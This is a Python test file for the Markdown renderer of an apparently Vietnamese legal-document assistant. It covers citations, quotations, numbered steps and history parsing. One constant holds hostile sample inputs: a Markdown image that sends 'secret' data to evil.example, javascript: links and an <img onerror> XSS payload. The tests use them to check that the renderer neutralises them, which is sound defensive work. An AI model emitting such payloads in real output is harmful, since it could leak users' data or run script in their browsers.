from datetime import date
from urllib.parse import urlsplit

from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from api.openai.history import suggestions_in, turn_of
from api.openai.markdown import Composer, block, one_line, title_of
from assistant.domain.answer import Answer, Citation, Outcome, Part, Statement
from assistant.domain.validity import Status

DAY = date(2030, 1, 1)
RENDER = MarkdownIt("commonmark")
POISON = (
    "Xem ![ảnh](http://evil.example/?q=bí-mật) và [đây](javascript:alert(1)) <img src=x onerror=alert(1)> "
    "[9] [x]: http://evil.example `mã` **đậm** &lt;b&gt;"
)


def a_citation(**fields) -> Citation:
    made = {
        "path": "1/2030/TT-BGDM#dieu-5.khoan-2",
        "document": "1/2030/TT-BGDM",
        "document_title": "Quy chế mẫu",
        "article": "5",
        "label": "khoản 2 Điều 5",
        "heading": "Bảo lưu",
        "quote": "Đã học.",
        "start": 0,
        "end": 7,
        "status": Status.IN_FORCE,
        "validity": "còn hiệu lực từ ngày 01/01/2030",
    }
    return Citation.model_validate(made | fields)


def an_answer(*texts: str, citations=(), **fields) -> Answer:
    statements = tuple(Statement(text=text, citations=tuple(range(len(citations)))) for text in texts)
    made = {"question": "?", "outcome": Outcome.ANSWERED, "answer": "", "as_of": DAY, "edition": 1}
    return Answer.model_validate(made | {"statements": statements, "citations": citations} | fields)


def written(answer: Answer) -> str:
    composer = Composer(lambda citation: f"http://localhost:8000/van-ban/{citation.document}")
    return "".join(piece.text for piece in composer.close(answer))


def test_words_of_a_poisoned_document_are_shown_and_do_nothing():
    html = RENDER.render(written(an_answer(f"Theo Điều 5:\n\n> {POISON}", notices=(POISON,), letter=POISON)))
    assert "<img" not in html
    assert "<a " not in html
    assert "<strong>đậm" not in html
    assert "![ảnh](http://evil.example/?q=bí-mật)" in html
    assert "[9]" in html


@given(st.text(alphabet="ab ![]()<>`*_#-+=~&;:/\\\n1.", max_size=60))
def test_no_text_becomes_a_picture_a_link_or_a_tag(text):
    tokens = RENDER.parse(block(f"> {text}"))
    inside = [child for token in tokens for child in token.children or ()]
    assert not {"image", "link_open", "html_inline", "code_inline"} & {child.type for child in inside}
    assert not {"html_block", "fence", "heading_open", "hr"} & {token.type for token in tokens}


@given(st.text(alphabet="ab ![]()<>`*_#~&;:/\\", min_size=1, max_size=40))
def test_a_line_is_shown_as_it_is(text):
    from html import unescape

    shown = unescape(RENDER.render(f"x{one_line(text)}x").removeprefix("<p>").removesuffix("</p>\n"))
    assert shown == f"x{' '.join(text.split())}x"


def test_marks_stand_before_a_quotation_so_that_it_stays_verbatim():
    text = written(an_answer("Theo Điều 5:\n\n> a) Một;\n> b) Hai.", citations=(a_citation(),)))
    assert text.startswith(
        "Hiệu lực xét vào ngày 01/01/2030 (hôm nay).\n\nTheo Điều 5: [1]\n\n> a) Một;  \n> b) Hai."
    )


def test_a_citation_without_a_link_has_the_link_of_its_page_here():
    plain, outside, script = (
        a_citation(),
        a_citation(url="http://vbpl.example/x y>#Dieu_5"),
        a_citation(url="javascript:alert(1)"),
    )
    text = written(an_answer("Một.", citations=(plain, outside, script)))
    assert text.count("(<http://localhost:8000/van-ban/1/2030/TT-BGDM>)") == 2
    assert "(<http://vbpl.example/x%20y%3E#Dieu_5>)" in text


def test_each_citation_has_one_annotation_in_its_order():
    cited = (a_citation(), a_citation(path="1/2030/TT-BGDM#dieu-6", label="Điều 6"))
    composer = Composer(lambda _citation: "http://localhost/x")
    pieces = list(composer.close(an_answer("Một.", "Hai.", citations=cited)))
    links = [one["url_citation"] for piece in pieces for one in piece.annotations]
    assert [link["title"] for link in links] == [title_of(citation) for citation in cited]
    assert all(urlsplit(link["url"]).scheme == "http" for link in links)


def test_a_sample_says_that_it_has_no_force():
    assert "KHÔNG CÓ GIÁ TRỊ PHÁP LÝ" in written(an_answer("Một.", citations=(a_citation(sample=True),)))


def test_steps_are_numbered_and_what_is_left_out_of_a_quotation_is_seen():
    steps = tuple(Statement(text=f"Nộp {what}.", part=Part.STEP) for what in ("đơn", "hồ sơ"))
    quoted = Statement(text="> a) Một;\n> […]\n> c) […]: Ba.", part=Part.QUOTE)
    text = written(an_answer().model_copy(update={"statements": (*steps, quoted)}))
    assert "1. Nộp đơn.\n\n2. Nộp hồ sơ.\n\n> a) Một;  \n> […]  \n> c) \\[…\\]: Ba." in text


def test_a_greeting_has_no_day():
    assert written(an_answer("Xin chào.", outcome=Outcome.SMALL_TALK)) == "Xin chào."


def test_an_answer_without_statements_is_told_by_its_text():
    assert "Không tìm thấy." in written(an_answer(answer="Không tìm thấy.", outcome=Outcome.NOT_FOUND))


def test_a_paragraph_for_a_letter_and_next_questions_close_the_text():
    text = written(an_answer("Một.", letter="Căn cứ Điều 5,\nnhà trường…", suggestions=("Hai [1]?", "Ba?")))
    assert "**Đoạn văn cho công văn**\n\n> Căn cứ Điều 5,  \n> nhà trường…" in text
    assert text.endswith("**Có thể hỏi tiếp**\n\n- Hai \\[1\\]?\n- Ba?")
    assert suggestions_in(text) == ["Hai [1]?", "Ba?"]


def test_the_text_tells_a_later_turn_its_day_and_its_provisions():
    cited = (
        a_citation(),
        a_citation(path="2/2030/TT-BGDM#dieu-1", label="Điều 1", document="2/2030/TT-BGDM"),
    )
    text = written(an_answer("Một.", citations=cited, as_of_reason="ngày bạn chọn"))
    turn = turn_of("?", text, 100)
    assert turn.as_of == DAY
    assert turn.cited == ("1/2030/TT-BGDM#dieu-5.khoan-2", "2/2030/TT-BGDM#dieu-1")
    assert turn_of("?", written(an_answer("Một.", as_of_reason="hôm nay")), 100).as_of is None


@given(st.text(max_size=300))
def test_any_history_is_read(text):
    turn = turn_of(text, f"{text}\n**Căn cứ**\n- [1] {text} `{text}`\nHiệu lực xét vào ngày 99/99/9999", 50)
    assert turn.as_of is None
    assert len(turn.question) <= 50
